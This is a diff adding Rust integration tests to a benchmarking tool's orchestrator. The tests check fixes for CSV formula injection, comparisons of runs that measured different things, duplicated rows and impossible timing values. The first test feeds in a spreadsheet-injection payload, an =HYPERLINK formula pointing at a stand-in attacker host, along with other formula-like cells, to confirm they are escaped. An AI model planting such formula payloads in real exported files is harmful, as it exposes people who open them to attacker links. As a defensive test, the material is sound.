@@ -507,3 +507,208 @@ fn a_result_line_with_impossible_values_is_bad_output() {
     assert!(failures.is_empty(), "\n{}", failures.join("\n"));
     assert!(rows.iter().any(|r| r.implementation == "fixture" && r.status == RunStatus::Ok));
 }
+
+// ---------------------------------------------------------------------------------------------
+// The hostile tester's records findings: CSV injection, compare of unlike runs, a run counted
+// twice, implausible times read back
+
+/// Whether a spreadsheet would take `cell` for a formula.
+fn formula_like(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !cell.parse::<f64>().is_ok_and(f64::is_finite)
+}
+
+/// Every cell of a CSV file, by column name.
+fn csv_cells(path: &Path) -> Vec<Vec<(String, String)>> {
+    let mut reader = csv::Reader::from_path(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
+    reader.records().map(|r| header.iter().cloned().zip(r.unwrap().iter().map(str::to_owned)).collect()).collect()
+}
+
+fn cell<'a>(row: &'a [(String, String)], column: &str) -> &'a str {
+    row.iter().find(|(name, _)| name == column).map_or_else(|| panic!("no column {column}"), |(_, value)| value.as_str())
+}
+
+/// Finding 1: a child reporting device `=HYPERLINK(…)` put exactly that in summary.csv's
+/// `devices` and raw.csv's `device`, a link for whoever opens them in a spreadsheet. Now every text
+/// cell that starts like a formula is written after a single quote (numbers such as -0.5 stay
+/// numbers), and raw.csv still reads back to the very text the child wrote.
+#[test]
+fn a_childs_text_is_never_a_formula_in_any_csv_and_raw_csv_reads_back_exactly() {
+    let dir = scratch();
+    let device = r#"=HYPERLINK("http://evil.example/?x","click")"#;
+    let evil = format!(
+        "{{command: [\"{{bin_dir}}/fixture-child\", \"result\", \"{{n}}\", \"{{epochs}}\", \"{{learning_rate}}\", \"--device\", {}]}}",
+        serde_json::to_string(device).unwrap()
+    );
+    let text = format!(
+        "name: hostile\ndataset: {{inline: {{x: [1, 2, 3, 4, 5], y: [2, 4, 6, 8, 10]}}}}\n\
+         training: {{epochs: 1000, learning_rate: 0.01, fits: 2}}\nimplementations: [fixture, evil]\nbaseline: fixture\n\
+         define:\n  fixture: {{command: [\"{{bin_dir}}/fixture-child\", \"result\", \"{{n}}\", \"{{epochs}}\", \"{{learning_rate}}\"]}}\n  evil: {evil}\n"
+    );
+    let scenario = dir.path().join("hostile.yaml");
+    std::fs::write(&scenario, text).unwrap();
+    let out_dir = dir.path().join("run");
+    let out = run(&scenario, &dir.path().join("results"), 2, &[OsStr::new("--out"), out_dir.as_os_str()]);
+    assert_eq!(out.code, Some(0), "{}", out.show());
+
+    let raw = csv_cells(&out_dir.join(records::RAW_CSV));
+    let evil_rows: Vec<_> = raw.iter().filter(|r| cell(r, "implementation") == "evil").collect();
+    assert_eq!(evil_rows.len(), 2, "{raw:?}");
+    assert!(evil_rows.iter().all(|r| cell(r, "device") == format!("'{device}")), "{evil_rows:?}");
+    let summary = csv_cells(&out_dir.join("summary.csv"));
+    let evil_summary = summary.iter().find(|r| cell(r, "implementation") == "evil").expect("evil's summary row");
+    assert_eq!(cell(evil_summary, "devices"), format!("'{device}"));
+    for file in [records::RAW_CSV, records::SAMPLES_CSV, "summary.csv"] {
+        for row in csv_cells(&out_dir.join(file)) {
+            assert!(!row.iter().any(|(_, value)| formula_like(value)), "{file}: {row:?}");
+        }
+    }
+    // Read back, raw.csv gives what the child wrote: a re-rendered report is the same.
+    let rows = records::read_raw(&out_dir).unwrap();
+    assert!(rows.iter().filter(|r| r.implementation == "evil").all(|r| r.device.as_deref() == Some(device)), "{rows:#?}");
+    let before = std::fs::read(out_dir.join("summary.csv")).unwrap();
+    let out = orchestrator([OsStr::new("report"), out_dir.as_os_str()]);
+    assert_eq!(out.code, Some(0), "{}", out.show());
+    assert_eq!(std::fs::read(out_dir.join("summary.csv")).unwrap(), before);
+
+    // Text that starts like a formula anywhere in a row (a hand-made raw.csv, a message from
+    // stderr), and a row that starts with the guard itself, come back as they were written.
+    let hand = dir.path().join("hand");
+    let mut rows = runs(2, 2);
+    rows[0].message = "-1+2 from stderr".into();
+    rows[1].message = "'=already quoted".into();
+    rows[2].device = Some("@SUM(A1)".into());
+    write_run(&hand, 2, &rows);
+    assert_eq!(records::read_raw(&hand).unwrap(), rows);
+    for row in csv_cells(&hand.join(records::RAW_CSV)) {
+        assert!(!row.iter().any(|(_, value)| formula_like(value)), "{row:?}");
+    }
+}
+
+/// The fixture plan asking for 5 runs of `rust` with `fits` fits each, and its rows.
+fn write_fits_run(dir: &Path, fits: u64, scale: f64) {
+    std::fs::create_dir_all(dir).unwrap();
+    let mut plan = plan(&dataset(dir), vec![]);
+    plan.scenarios[0].points[0].fits = [("rust".to_string(), fits), ("python-numpy".to_string(), 2)].into();
+    records::write_json_atomic(&dir.join(records::PLAN_JSON), &plan).unwrap();
+    let rows: Vec<RawRecord> = runs(5, 5)
+        .into_iter()
+        .map(|r| {
+            let k = if r.implementation == "rust" { fits } else { 2 };
+            let wall = r.wall_seconds.unwrap() * if r.implementation == "rust" { scale } else { 1.0 };
+            RawRecord { fits: Some(k), wall_seconds: Some(wall), user_seconds: Some(wall * 0.9), ..r }
+        })
+        .collect();
+    CsvAppender::open(&dir.join(records::RAW_CSV)).unwrap().append(&rows).unwrap();
+}
+
+/// Finding 2: the same scenario with `fits: 2` and `fits: 2000` compared as
+/// `wall +3639.8% REGRESSION`, exit 1. Now compare reads both plans: a point measured differently
+/// is not comparable, said with what differs, never a regression; with nothing comparable left,
+/// the command says so and fails (exit 2).
+#[test]
+fn compare_never_compares_runs_that_measured_different_things() {
+    let dir = scratch();
+    let (old, new) = (dir.path().join("fits-2"), dir.path().join("fits-2000"));
+    write_fits_run(&old, 2, 1.0);
+    write_fits_run(&new, 2000, 37.0);
+    let out = orchestrator([OsStr::new("compare"), old.as_os_str(), new.as_os_str()]);
+    assert_eq!(out.code, Some(0), "{}", out.show());
+    assert!(!out.stdout.contains("REGRESSION"), "{}", out.show());
+    let unlike = out.stdout.lines().find(|l| l.contains("seed") && l.contains("rust:")).unwrap_or_else(|| panic!("{}", out.show()));
+    assert!(unlike.contains("fits 2 → 2000"), "{unlike}");
+    // The point compared says its K.
+    assert!(out.stdout.lines().any(|l| l.contains("python-numpy") && l.contains("fits=2")), "{}", out.show());
+
+    // Only the unlike point: nothing comparable is an error, not a pass.
+    let only = |dir: &Path| {
+        let kept: Vec<RawRecord> = records::read_raw(dir).unwrap().into_iter().filter(|r| r.implementation == "rust").collect();
+        std::fs::remove_file(dir.join(records::RAW_CSV)).unwrap();
+        CsvAppender::open(&dir.join(records::RAW_CSV)).unwrap().append(&kept).unwrap();
+    };
+    only(&old);
+    only(&new);
+    let out = orchestrator([OsStr::new("compare"), old.as_os_str(), new.as_os_str()]);
+    assert_eq!(out.code, Some(2), "{}", out.show());
+    assert!(out.stderr.contains("nothing comparable") && out.stderr.contains("fits 2 → 2000"), "{}", out.show());
+    assert!(!out.stdout.contains("REGRESSION"), "{}", out.show());
+
+    // An old run without plan.json is compared on what raw.csv records (its rows' fits), and
+    // said to be.
+    std::fs::remove_file(old.join(records::PLAN_JSON)).unwrap();
+    let out = orchestrator([OsStr::new("compare"), old.as_os_str(), new.as_os_str()]);
+    assert_eq!(out.code, Some(2), "{}", out.show());
+    assert!(out.stderr.contains("no plan.json") && out.stderr.contains("fits 2 → 2000"), "{}", out.show());
+}
+
+/// Finding 3: raw.csv with every row three times reported runs = 6 of a plan of 2 repetitions,
+/// with narrower CIs and no word. A run (scenario, point, implementation, repetition) counts
+/// once: its first row is kept, the others named and left out, by report and compare; merge
+/// refuses a shard holding a run twice.
+#[test]
+fn a_run_written_twice_counts_once_and_a_shard_holding_one_is_refused() {
+    let dir = scratch();
+    let run_dir = dir.path().join("tripled");
+    let rows = runs(2, 2);
+    write_run(&run_dir, 2, &[rows.clone(), rows.clone(), rows.clone()].concat());
+    let out = orchestrator([OsStr::new("report"), run_dir.as_os_str()]);
+    assert_eq!(out.code, Some(0), "{}", out.show());
+    assert_eq!(summary_runs(&run_dir), vec![("rust".into(), 2), ("python-numpy".into(), 2)]);
+    // Lines 6–13 copy lines 2–5.
+    let warning = out.stderr.lines().find(|l| l.contains("line 6:")).unwrap_or_else(|| panic!("{}", out.show()));
+    assert!(warning.contains("a copy of line 2") && warning.contains("counts once"), "{warning}");
+    assert_eq!(out.stderr.matches("counts once").count(), 8, "{}", out.show());
+    assert!(first_screen(&run_dir).contains("8 row(s) of raw.csv are left out of every statistic"), "{}", first_screen(&run_dir));
+
+    // compare reads it the same way.
+    let whole = dir.path().join("whole");
+    write_run(&whole, 2, &rows);
+    let out = orchestrator([OsStr::new("compare"), whole.as_os_str(), run_dir.as_os_str()]);
+    assert!(out.stderr.contains("a copy of line 2"), "{}", out.show());
+
+    // merge refuses it, naming the shard and the row, before writing anything.
+    let shards = write_shards(dir.path());
+    let second = point_rows(1);
+    CsvAppender::open(&shards[1].join(records::RAW_CSV)).unwrap().append(&second[1..2]).unwrap();
+    let merged = dir.path().join("merged");
+    let out = merge(&shards, &merged);
+    assert_eq!(out.code, Some(2), "{}", out.show());
+    let shard = shards[1].display().to_string();
+    assert!(out.stderr.contains(&shard) && out.stderr.contains("line 6: a copy of line 3"), "{}", out.show());
+    assert!(!merged.join(records::RAW_CSV).exists(), "the merge wrote its output");
+}
+
+/// Finding 4: train_seconds and load_seconds edited to 1e300 gave a start-up of `-2.00e300 s` and
+/// `-2.28e305%`. Read back, a row whose load + train exceed its wall time (the check a live run
+/// gets) is named and left out of every statistic; merge keeps it in the merged raw.csv.
+#[test]
+fn a_row_claiming_more_time_than_its_wall_time_is_left_out_when_read_back() {
+    let dir = scratch();
+    let run_dir = dir.path().join("run");
+    write_run(&run_dir, 5, &runs(5, 5));
+    for column in ["load_seconds", "train_seconds"] {
+        set_field(&run_dir.join(records::RAW_CSV), 4, column, "1e300");
+    }
+    let out = orchestrator([OsStr::new("report"), run_dir.as_os_str()]);
+    assert_eq!(out.code, Some(0), "{}", out.show());
+    let warning = out.stderr.lines().find(|l| l.contains("line 4:")).unwrap_or_else(|| panic!("{}", out.show()));
+    assert!(warning.contains("load_seconds + train_seconds") && warning.contains("left out"), "{warning}");
+    assert_eq!(summary_runs(&run_dir), vec![("rust".into(), 4), ("python-numpy".into(), 5)]);
+    let report = std::fs::read_to_string(run_dir.join("report.md")).unwrap();
+    // The row is named (its 2.00e300 s), but no figure is made of it.
+    assert!(!["-2.00e300", "−2.00e300", "e305"].iter().any(|nonsense| report.contains(nonsense)), "{report}");
+    assert!(first_screen(&run_dir).contains("1 row(s) of raw.csv are left out of every statistic"), "{}", first_screen(&run_dir));
+
+    let whole = dir.path().join("whole");
+    write_run(&whole, 5, &runs(5, 5));
+    let out = orchestrator([OsStr::new("compare"), whole.as_os_str(), run_dir.as_os_str()]);
+    assert!(out.stderr.contains("load_seconds + train_seconds"), "{}", out.show());
+
+    let shards = write_shards(dir.path());
+    set_field(&shards[0].join(records::RAW_CSV), 2, "train_seconds", "5");
+    let merged = dir.path().join("merged");
+    let out = merge(&shards, &merged);
+    assert_eq!(out.code, Some(0), "{}", out.show());
+    assert!(out.stderr.contains("load_seconds + train_seconds"), "{}", out.show());
+    assert_eq!(records::read_raw(&merged).unwrap().len(), 8, "a row measured was dropped");
+}
